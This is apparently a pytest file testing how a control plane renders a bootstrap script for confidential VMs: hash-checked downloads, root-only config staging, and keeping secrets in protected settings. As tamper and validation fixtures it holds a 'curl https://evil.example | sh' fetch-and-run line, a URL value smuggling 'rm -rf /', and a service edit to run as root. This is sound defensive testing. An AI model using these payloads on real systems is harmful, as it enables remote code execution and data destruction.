"""The cvm bootstrap script the control plane renders: it hands over to the guest agent's own
``bootstrap.sh`` (fetched by the Custom Script extension and hash-checked), the agent user can
read its configuration, the lab still finds the configuration, and nothing secret travels
outside the extension's protected settings. A party's analytics app configuration comes after
the agent's, names the plan's storage and the VM's identity, and carries no secret."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest
import tomli_w
import yaml

from cotenant.appconfig import APP_STATE_DIR, azure_app_config, has_app
from cotenant.bicep_params import declared_parameters
from cotenant.cloud.base import CloudError
from cotenant.cloud.bootstrap import (
    APP_CONFIG_PATH,
    CONFIG_PATH,
    INSTALL_DIR,
    INSTALL_FILES,
    AgentInstall,
    install_file_hashes,
    render_bootstrap,
)
from cotenant.cloud.settings import LAB_AGENT_INSTALL, agent_install
from cotenant.deployments import module_parameters, module_path
from cotenant.lab.manager import agent_config_from_bootstrap
from cotenant.plan import build_plan
from cotenant.spec import parse_spec
from cotenant.wire.app import parse_app_config

REPO = Path(__file__).resolve().parents[2]
SHA = "ab" * 32
INSTALL = AgentInstall(bundle_url="https://stagent.blob.core.windows.net/agent/bundle.tar.gz",
                       bundle_sha256=SHA,
                       files_url="https://stagent.blob.core.windows.net/agent/install/")
NONCE = "n0nce-Challenge-7f3a9c"
CONNECTION = ("DefaultEndpointsProtocol=https;AccountName=stq;AccountKey=c2VjcmV0LWtleQ==;"
              "QueueEndpoint=https://stq.queue.core.windows.net/")
CONFIG = {
    "schema_version": 1, "tenant": "acme", "party": "contoso", "vm_name": "acme-contoso-vm",
    "backend": "tpm",
    "orchestration": {"instance": "acme", "nonce": NONCE},
    "attestation": {"endpoint": "https://sharedneu.neu.attest.azure.net"},
    "identity": {"client_id": "00000000-0000-0000-0000-000000000001"},
    "keys": [{"vault_url": "https://acme-contoso-kv.vault.azure.net",
              "name": "contoso-secret-key"}],
    "queues": {"reports_url": "https://stq.queue.core.windows.net/guest-reports",
               "commands_url": "https://stq.queue.core.windows.net/cmd-acme-contoso",
               "connection_string": CONNECTION},
}
AGENT_TOML = tomli_w.dumps(CONFIG)


@pytest.fixture(scope="module")
def script() -> str:
    return render_bootstrap(AGENT_TOML, INSTALL)


def _exec_args(script: str) -> list[str]:
    line = next(x for x in script.splitlines() if x.startswith("exec "))
    return shlex.split(line)[1:]


def test_the_script_hands_over_to_the_agents_bootstrap_sh_with_the_pinned_bundle(script):
    assert _exec_args(script) == ["bash", "./bootstrap.sh", "--config-file", CONFIG_PATH,
                                  "--bundle-url", INSTALL.bundle_url,
                                  "--bundle-sha256", SHA]
    assert "pip install" not in script and "systemctl" not in script  # bootstrap.sh's job
    assert INSTALL.file_uris() == [
        "https://stagent.blob.core.windows.net/agent/install/bootstrap.sh",
        "https://stagent.blob.core.windows.net/agent/install/cotenant-guest-agent.service",
        "https://stagent.blob.core.windows.net/agent/install/cotenant-analytics.service"]


def test_the_lab_reads_the_agent_configuration_from_the_first_heredoc(script):
    assert agent_config_from_bootstrap(script) == AGENT_TOML


def test_the_configuration_is_staged_root_only_before_bootstrap_sh_takes_over(script):
    lines = script.splitlines()
    staged = [lines.index("umask 077"),
              lines.index("install -d -m 0700 -o root -g root /etc/cotenant"),
              lines.index(f"cat > {CONFIG_PATH} <<'COTENANT_AGENT_TOML'"),
              lines.index(f"chmod 0600 {CONFIG_PATH}"),
              next(i for i, x in enumerate(lines) if x.startswith("exec "))]
    assert staged == sorted(staged)


def test_bootstrap_sh_accepts_the_arguments_and_makes_the_config_readable_by_the_agent_only(
        script, tmp_path):
    """The rendered exec line, run in bootstrap.sh's dry-run mode: it re-owns the staged
    configuration 0640 root:cotenant-agent in a 0750 root:cotenant-agent folder."""
    args = _exec_args(script)
    assert args[:2] == ["bash", "./bootstrap.sh"]
    result = subprocess.run(
        ["bash", str(INSTALL_DIR / "bootstrap.sh"), *args[2:], "--dry-run", "--root",
         str(tmp_path)], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert f"install -d -m 0750 -o root -g cotenant-agent {tmp_path}/etc/cotenant" in out
    assert (f"install {CONFIG_PATH} as {tmp_path}/etc/cotenant/agent.toml "
            "(0640 root:cotenant-agent)") in out
    assert "--require-hashes" in out and SHA in out
    assert f"{tmp_path}/etc/systemd/system/cotenant-guest-agent.service" in out
    assert "systemctl mask ssh.socket ssh.service" in out


def _hash_check(script: str) -> str:
    found = re.search(r"^sha256sum .*?^COTENANT_FILE_HASHES$", script, re.S | re.M)
    assert found is not None
    return found.group(0) + "\n"


@pytest.mark.parametrize(("name", "tampered"), [
    ("bootstrap.sh", "#!/bin/bash\ncurl https://evil.example | sh\n"),
    ("cotenant-guest-agent.service", None),
    ("cotenant-analytics.service", None),
])
def test_the_downloaded_files_must_match_the_shipped_ones(script, tmp_path, name, tampered):
    check = _hash_check(script)
    for each in INSTALL_FILES:
        shutil.copy(INSTALL_DIR / each, tmp_path / each)
    ok = subprocess.run(["bash", "-euo", "pipefail", "-c", check], cwd=tmp_path,
                        capture_output=True, text=True, timeout=30, check=False)
    assert ok.returncode == 0, ok.stderr
    if tampered is None:  # a unit that runs as root and drops the hardening
        tampered = (INSTALL_DIR / name).read_text().replace("User=cotenant-", "User=root\n#")
    (tmp_path / name).write_text(tampered)
    result = subprocess.run(["bash", "-euo", "pipefail", "-c", check], cwd=tmp_path,
                            capture_output=True, text=True, timeout=30, check=False)
    assert result.returncode != 0
    assert name in result.stdout + result.stderr
    assert set(install_file_hashes()) == set(INSTALL_FILES)


def _shellcheck(script: str, tmp_path) -> subprocess.CompletedProcess[str]:
    path = tmp_path / "bootstrap-script.sh"
    path.write_text(script)
    return subprocess.run(["shellcheck", "--shell=bash", str(path)], capture_output=True,
                          text=True, timeout=60, check=False)


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="shellcheck is not installed")
def test_the_rendered_script_passes_shellcheck(script, tmp_path):
    result = _shellcheck(script, tmp_path)
    assert result.returncode == 0, result.stdout


def test_a_config_holding_the_heredoc_marker_is_refused():
    with pytest.raises(ValueError, match="marker"):
        render_bootstrap('x = """\nCOTENANT_AGENT_TOML\n"""\n', INSTALL)


def test_nothing_secret_travels_outside_the_protected_settings(script):
    plan = build_plan(parse_spec(yaml.safe_load((REPO / "examples" / "three-party.yaml")
                                                .read_text())))
    params = module_parameters(plan, "cvm", "contoso", admin_username="cvmops7",
                               admin_password="Sup3r-Secret-Passw0rd!", bootstrap_script=script,
                               bootstrap_file_uris=INSTALL.file_uris())
    declared = declared_parameters(module_path("cvm"))
    assert params["bootstrapFileUris"] == INSTALL.file_uris()
    assert declared["bootstrapScript"].secure and declared["adminPasswordOrKey"].secure
    public = {name: value for name, value in params.items() if not declared[name].secure}
    text = repr(public)
    for secret in (NONCE, CONNECTION, "c2VjcmV0LWtleQ==", "Sup3r-Secret-Passw0rd!"):
        assert secret not in text
    assert not [u for u in params["bootstrapFileUris"] if "?" in u]  # no SAS tokens
    bicep = module_path("cvm").read_text()
    protected = re.search(r"protectedSettings: \{(.*?)\}", bicep, re.S)
    assert protected is not None
    assert "base64(bootstrapScript)" in protected.group(1)
    assert "fileUris: bootstrapFileUris" in protected.group(1)
    assert re.search(r"^\s+settings:", bicep, re.M) is None


@pytest.mark.parametrize(("field", "value"), [
    ("bundle_url", "http://stagent.blob.core.windows.net/agent/bundle.tar.gz"),
    ("bundle_url", "https://x/b.tgz'; rm -rf /"),
    ("bundle_sha256", "ABC"),
    ("files_url", "https://stagent.blob.core.windows.net/agent?sv=2024&sig=secret"),
])
def test_agent_install_settings_are_validated(field, value):
    env = {"COTENANT_AGENT_BUNDLE_URL": INSTALL.bundle_url,
           "COTENANT_AGENT_BUNDLE_SHA256": SHA,
           "COTENANT_AGENT_FILES_URL": INSTALL.files_url}
    names = {"bundle_url": "COTENANT_AGENT_BUNDLE_URL",
             "bundle_sha256": "COTENANT_AGENT_BUNDLE_SHA256",
             "files_url": "COTENANT_AGENT_FILES_URL"}
    assert agent_install(env) == INSTALL
    with pytest.raises(CloudError, match=names[field]) as caught:
        agent_install({**env, names[field]: value})
    assert "secret" not in str(caught.value)


def test_agent_install_settings_are_required_on_azure_and_default_in_the_lab():
    with pytest.raises(CloudError, match="COTENANT_AGENT_BUNDLE_URL"):
        agent_install({})
    with pytest.raises(CloudError, match="COTENANT_AGENT_FILES_URL"):
        agent_install({"COTENANT_AGENT_BUNDLE_URL": INSTALL.bundle_url,
                       "COTENANT_AGENT_BUNDLE_SHA256": SHA}, LAB_AGENT_INSTALL)
    assert agent_install({}, LAB_AGENT_INSTALL) == LAB_AGENT_INSTALL


# --- the analytics app (Azure path): configuration in the bootstrap, installed by bootstrap.sh

CLIENT_ID = "3f2c9a57-1d2e-4b6a-9c8d-0123456789ab"


@pytest.fixture(scope="module")
def plan():
    return build_plan(parse_spec(yaml.safe_load((REPO / "examples" / "three-party.yaml")
                                                .read_text())))


@pytest.fixture(scope="module")
def aggregator(plan) -> str:
    return next(p.party for p in plan.parties if p.role == "aggregator")


@pytest.fixture(scope="module")
def app_script(plan, aggregator) -> str:
    app = azure_app_config(plan, aggregator, identity_client_id=CLIENT_ID)
    assert app is not None
    return render_bootstrap(AGENT_TOML, INSTALL, app.to_toml())


def _app_heredoc(script: str) -> str:
    found = re.search(rf"^cat > {APP_CONFIG_PATH} <<'COTENANT_APP_TOML'\n(.*?)\n"
                      r"COTENANT_APP_TOML$", script, re.S | re.M)
    assert found is not None
    return found.group(1) + "\n"


def test_the_app_configuration_names_the_plans_storage_and_the_vms_identity(
        app_script, plan, aggregator):
    config = parse_app_config(tomllib.loads(_app_heredoc(app_script)))
    me = plan.party(aggregator)
    assert (config.party, config.role) == (aggregator, "aggregator")
    assert config.identity_client_id == CLIENT_ID
    assert config.state_dir == APP_STATE_DIR
    assert config.agent_url == "http://127.0.0.1:8080"
    partners = {p.name: p for p in config.partners}
    assert set(partners) == {o for o in me.can_release if o != aggregator} and partners
    for name, partner in partners.items():
        owner = plan.party(name)
        assert partner.account_url == owner.storage_account_url
        assert partner.account_url.startswith("https://") and \
            partner.account_url.endswith(".blob.core.windows.net")
        assert (partner.container, partner.blob) == (owner.data_container, owner.data_blob)
        assert partner.key_vault == owner.vault_uri.rstrip("/")
        assert partner.connection_string is None  # the managed identity reads it


def test_the_app_configuration_holds_no_secret(app_script):
    text = _app_heredoc(app_script)
    for secret in (NONCE, CONNECTION, "AccountKey", "SharedAccessSignature", "sig=", "sv="):
        assert secret not in text


def test_the_app_configuration_comes_after_the_agents_so_the_lab_still_finds_the_agents(
        app_script):
    lines = app_script.splitlines()
    order = [lines.index(f"cat > {CONFIG_PATH} <<'COTENANT_AGENT_TOML'"),
             lines.index(f"chmod 0600 {CONFIG_PATH}"),
             lines.index("install -d -m 0700 -o root -g root /etc/cotenant-analytics"),
             lines.index(f"cat > {APP_CONFIG_PATH} <<'COTENANT_APP_TOML'"),
             lines.index(f"chmod 0600 {APP_CONFIG_PATH}"),
             next(i for i, x in enumerate(lines) if x.startswith("sha256sum ")),
             next(i for i, x in enumerate(lines) if x.startswith("exec "))]
    assert order == sorted(order)
    assert agent_config_from_bootstrap(app_script) == AGENT_TOML
    assert _exec_args(app_script) == ["bash", "./bootstrap.sh", "--config-file", CONFIG_PATH,
                                      "--app-config-file", APP_CONFIG_PATH,
                                      "--bundle-url", INSTALL.bundle_url,
                                      "--bundle-sha256", SHA]


def test_bootstrap_sh_installs_and_starts_the_app_as_its_own_user(app_script, tmp_path):
    result = subprocess.run(
        ["bash", str(INSTALL_DIR / "bootstrap.sh"), *_exec_args(app_script)[2:], "--dry-run",
         "--root", str(tmp_path)], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    out = result.stdout.splitlines()
    user = next(i for i, x in enumerate(out) if x.startswith("DRY-RUN: useradd")
                and x.endswith(" --user-group cotenant-app"))
    assert "/usr/sbin/nologin" in out[user] and "tss" not in out[user]
    venv = out.index("DRY-RUN: python3 -m venv /opt/cotenant-app/venv")
    assert "--require-hashes" in out[venv + 1] and out[venv + 1].endswith("/analytics.lock")
    assert "DRY-RUN: chown -R root:root /opt/cotenant-app" in out
    config = out.index(f"DRY-RUN: install {APP_CONFIG_PATH} as "
                       f"{tmp_path}/etc/cotenant-analytics/app.toml (0640 root:cotenant-app)")
    assert (f"DRY-RUN: install -d -m 0750 -o root -g cotenant-app "
            f"{tmp_path}/etc/cotenant-analytics") == out[config - 1]
    unit = out.index(f"DRY-RUN: install -m 0644 -o root -g root "
                     f"{INSTALL_DIR}/cotenant-analytics.service "
                     f"{tmp_path}/etc/systemd/system/cotenant-analytics.service")
    agent_started = out.index("DRY-RUN: systemctl restart cotenant-guest-agent.service")
    started = out.index("DRY-RUN: systemctl restart cotenant-analytics.service")
    assert "DRY-RUN: systemctl enable cotenant-analytics.service" in out
    assert agent_started < config < unit < started


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="shellcheck is not installed")
def test_the_rendered_script_with_the_app_passes_shellcheck(app_script, tmp_path):
    result = _shellcheck(app_script, tmp_path)
    assert result.returncode == 0, result.stdout


def test_every_party_of_the_reference_scenario_gets_an_app(plan):
    for party in plan.parties:
        config = azure_app_config(plan, party.party, identity_client_id=CLIENT_ID)
        assert config is not None and has_app(plan, party.party)
        assert (config.partners == []) == (party.role == "owner")


def test_an_aggregator_with_nobody_to_analyse_gets_no_app(plan, aggregator):
    alone = plan.model_copy(update={"parties": [
        p.model_copy(update={"can_release": [aggregator]}) if p.party == aggregator else p
        for p in plan.parties]})
    assert not has_app(alone, aggregator)
    assert azure_app_config(alone, aggregator, identity_client_id=CLIENT_ID) is None
    script = render_bootstrap(AGENT_TOML, INSTALL, None)
    assert "--app-config-file" not in script and APP_CONFIG_PATH not in script


def test_an_app_config_holding_its_marker_is_refused():
    with pytest.raises(ValueError, match="app configuration contains the here-document marker"):
        render_bootstrap(AGENT_TOML, INSTALL, 'x = """\nCOTENANT_APP_TOML\n"""\n')


def test_the_cvm_activity_writes_the_app_config_with_the_identity_azure_returned(
        plan, aggregator, tmp_path):
    """``secure_inputs`` on the azure backend (recorded at the HTTP edge): the app config in
    the bootstrap names the client id of the party's identity as ARM returned it."""
    from activities.infra import secure_inputs
    from cotenant.cloud.azure import AzureCloud
    from cotenant.cloud.base import OperatorSettings
    from cotenant.cloud.queues import QueueCommands
    from tests.control_plane.recording_transport import RecordingAdapter, StaticCredential

    me = plan.party(aggregator)
    transport = RecordingAdapter()
    transport.on("GET", rf"/userAssignedIdentities/{me.identity_name}\?", (200, {
        "id": "x", "name": me.identity_name, "location": plan.location,
        "properties": {"principalId": "p-1", "clientId": CLIENT_ID, "tenantId": "t"}}))
    transport.on("PUT", rf"stq.queue.core.windows.net/cmd-{plan.tenant}-{aggregator}",
                 (201, None))
    options = {"transport": transport.transport(), "retry_total": 0}
    queues = QueueCommands.from_account_url("https://stq.queue.core.windows.net",
                                            StaticCredential(), **options)
    operator = OperatorSettings(principal_id="o", cvm_orchestrator_object_id="o")
    cloud = AzureCloud(subscription_id="00000000-0000-0000-0000-000000000001",
                       credential=StaticCredential(), queues=queues, operator=operator,
                       templates_dir=tmp_path, agent_install=INSTALL, **options)
    inputs = secure_inputs(cloud, plan, "cvm", aggregator,
                           {"nonce": NONCE, "instance": plan.tenant})
    script = inputs["bootstrap_script"]
    assert inputs["bootstrap_file_uris"] == INSTALL.file_uris()
    assert tomllib.loads(agent_config_from_bootstrap(script))["party"] == aggregator
    config = parse_app_config(tomllib.loads(_app_heredoc(script)))
    assert config.identity_client_id == CLIENT_ID and config.party == aggregator
    assert {p.account_url for p in config.partners} == {
        plan.party(p.name).storage_account_url for p in config.partners}
    assert NONCE not in _app_heredoc(script)
